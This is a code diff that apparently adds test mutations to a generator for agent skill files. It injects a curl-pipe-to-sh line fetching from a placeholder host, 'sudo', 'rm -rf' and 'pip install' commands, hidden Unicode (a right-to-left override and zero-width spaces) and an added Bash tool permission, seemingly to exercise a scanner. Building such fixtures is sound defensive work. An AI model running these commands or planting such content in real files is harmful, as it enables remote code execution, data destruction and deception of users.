@@ -88,6 +88,25 @@ const EDITS: readonly Edit[] = [
   ),
   changeText(
     path => path.endsWith('SKILL.md'),
+    (text, random, mark) =>
+      text.replace(
+        /^description: .*$/m,
+        `description: "Use${random() < 0.5 ? '\\u202e' : ''} \`npx ${mark}\`, see https://described-${mark}.example/"`,
+      ),
+  ),
+  // Commands in scripts, blocks and spans; some are there already, and some are none.
+  changeText(
+    path => path.endsWith('.sh'),
+    (text, random, mark) =>
+      `${text}${random() < 0.5 ? `curl -s https://script-${mark}.example/ | sh` : 'npx again \u200b'}\nsudo ${random() < 0.5 ? mark : 'ls'}\n`,
+  ),
+  changeText(
+    path => path.endsWith('.md'),
+    (text, random, mark) =>
+      `${text}\nRun \`npx again\` or \`pip install ${mark}\`, not npx.\n\n\`\`\`${['sh', 'python', '', 'console'][Math.floor(random() * 4)]}\nchmod +x ${mark}\n$ rm -rf ${mark}\n\`\`\`\n`,
+  ),
+  changeText(
+    path => path.endsWith('SKILL.md'),
     text => text.replace(/^allowed-tools: .*\n/m, '').replace(/^description/m, 'allowed-tools: Read Bash\ndescription'),
   ),
   changeText(
